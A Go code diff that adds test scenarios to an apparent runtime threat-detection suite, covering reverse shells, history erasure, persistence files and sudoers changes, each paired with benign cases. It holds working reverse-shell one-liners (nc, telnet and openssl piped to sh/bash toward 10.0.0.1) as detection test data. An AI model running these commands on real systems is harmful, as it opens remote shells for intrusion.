@@ -60,6 +60,7 @@ func scenarios() []scenario {
 		dupShell   = "Reverse shell by duplicating a socket onto standard streams"
 		relay      = "Socket relay started a shell"
 		fedShell   = "Shell fed by a program that connected out"
+		pipeShell  = "Shell piped to a network client"
 		newBin     = "New binary executed in a container"
 		upperBin   = "Binary from the container's writable layer executed"
 		shmBin     = "Binary executed from shared memory"
@@ -187,6 +188,18 @@ func scenarios() []scenario {
 			evs(execEv(proc("busybox", "/bin/busybox", "busybox", "sed", "-e", "s/a/b/", "f"))), nil},
 	)
 
+	add(
+		scenario{"the mkfifo loop of sh -i and nc is a reverse shell", pipeShell, true,
+			evs(execEv(sh("-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f"))), nil},
+		scenario{"telnet piped into bash piped into telnet is a reverse shell", pipeShell, true,
+			evs(execEv(proc("sh", "/bin/busybox", "sh", "-c", "telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445"))), nil},
+		scenario{"openssl s_client piped into sh is a reverse shell", pipeShell, true,
+			evs(execEv(sh("-c", "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:443 > /tmp/s"))), nil},
+		scenario{"a health check piping nc output to grep is not", pipeShell, false,
+			evs(execEv(sh("-c", "echo ruok | nc localhost 2181 | grep imok"))), nil},
+		scenario{"a pipeline into sh without a network client is not", pipeShell, false,
+			evs(execEv(sh("-c", "cat setup.sh | sh"))), nil},
+	)
 	agent := proc("agent", "/tmp/agent", "./agent")
 	agentSh := childOf(proc("sh", "/bin/dash", "sh"), agent)
 	socatP := proc("socat", "/usr/local/bin/sc", "sc", "TCP:10.0.0.9:4444", "EXEC:/bin/bash")
@@ -469,6 +482,10 @@ func scenarios() []scenario {
 			evs(renameEv(proc("ln", "/usr/bin/ln", "ln", "-sf", "/dev/null", "/root/.bash_history"), "renameat2", "/root/.bash_history.tmp1", "/root/.bash_history")), nil},
 		scenario{"a history file moved away is erased", history, true,
 			evs(renameEv(proc("mv", "/usr/bin/mv", "mv"), "renameat", "/root/.bash_history", "/tmp/h")), nil},
+		scenario{"python rewriting its own REPL history at exit is not", history, false,
+			evs(openEv(proc("python3", "/usr/bin/python3.11", "python3"), "openat", "/root/.python_history", oWRONLY|oCREAT|oTRUNC)), nil},
+		scenario{"python truncating the bash history is", history, true,
+			evs(openEv(proc("python3", "/usr/bin/python3.11", "python3"), "openat", "/root/.bash_history", oWRONLY|oCREAT|oTRUNC)), nil},
 		scenario{"bash appending to its history is not", history, false,
 			evs(openEv(sh(), "openat", "/root/.bash_history", oWRONLY|oAPPEND)), nil},
 	)
@@ -672,6 +689,13 @@ func scenarios() []scenario {
 		scenario{"/etc/shadow hard-linked elsewhere", persistF, true, evs(linkEv(proc("ln", "/usr/bin/ln", "ln"), "linkat", "/etc/shadow", "/tmp/s")), nil},
 		scenario{"a tool renamed passwd in /tmp writing /etc/shadow", persistF, true, evs(writeEv(proc("passwd", "/tmp/passwd", "passwd"), "/etc/shadow")), nil},
 		scenario{"a bashrc in a home directory removed", persistF, true, evs(unlinkEv(proc("rm", "/usr/bin/rm", "rm"), "/home/alice/.bashrc")), nil},
+		scenario{"an APT hook dropped into apt.conf.d", persistF, true, evs(writeEv(proc("tee", "/usr/bin/tee", "tee"), "/etc/apt/apt.conf.d/99x")), nil},
+		scenario{"a user systemd unit in a home directory", persistF, true,
+			evs(writeEv(proc("cp", "/usr/bin/cp", "cp"), "/home/alice/.config/systemd/user/x.service")), nil},
+		scenario{"cloud-init installing the default user's key at boot is not", persistF, false,
+			evs(writeEv(proc("cloud-init", "/usr/bin/python3.11", "/usr/bin/python3", "/usr/bin/cloud-init", "init"), "/home/admin/.ssh/authorized_keys")), nil},
+		scenario{"a dropper calling itself cloud-init is not cloud-init", persistF, true,
+			evs(writeEv(proc("cloud-init", "/tmp/cloud-init", "cloud-init"), "/root/.ssh/authorized_keys")), nil},
 		scenario{"apt-get's dpkg writing /etc/passwd is not", persistF, false,
 			evs(writeEv(childOf(proc("useradd", "/usr/sbin/useradd", "useradd"), dpkg), "/etc/passwd")), nil},
 		scenario{"passwd changing a password is not", persistF, false, evs(writeEv(proc("passwd", "/usr/bin/passwd", "passwd"), "/etc/shadow")), nil},
@@ -681,6 +705,8 @@ func scenarios() []scenario {
 		scenario{"/etc/sudoers written", privF, true, evs(openEv(sh(), "openat", "/etc/sudoers", oWRONLY|oAPPEND)), nil},
 		scenario{"a file dropped into /etc/sudoers.d", privF, true, evs(writeEv(proc("tee", "/usr/bin/tee", "tee"), "/etc/sudoers.d/99-x")), nil},
 		scenario{"a PAM module configuration moved away", privF, true, evs(renameEv(proc("mv", "/usr/bin/mv", "mv"), "renameat", "/etc/pam.d/sshd", "/tmp/p")), nil},
+		scenario{"the SSM agent adding ssm-user to sudoers.d is not", privF, false,
+			evs(writeEv(proc("amazon-ssm-agen", "/usr/bin/amazon-ssm-agent", "amazon-ssm-agent"), "/etc/sudoers.d/ssm-agent-users")), nil},
 		scenario{"visudo is not", privF, false, evs(writeEv(proc("visudo", "/usr/sbin/visudo", "visudo"), "/etc/sudoers.tmp")), nil},
 		scenario{"sudo reading sudoers is not", privF, false, evs(readEv(proc("sudo", "/usr/bin/sudo", "sudo"), "/etc/sudoers")), nil},
 	)
@@ -839,6 +865,7 @@ var wantType = map[string]string{
 	"Reverse shell by duplicating a socket onto standard streams": "Execution:Runtime/ReverseShell",
 	"Socket relay started a shell":                                "Execution:Runtime/ReverseShell",
 	"Shell fed by a program that connected out":                   "Execution:Runtime/ReverseShell",
+	"Shell piped to a network client":                             "Execution:Runtime/ReverseShell",
 	"New binary executed in a container":                          "Execution:Runtime/NewBinaryExecuted",
 	"Binary from the container's writable layer executed":         "Execution:Runtime/NewBinaryExecuted",
 	"Binary executed from shared memory":                          "Execution:Runtime/NewBinaryExecuted",
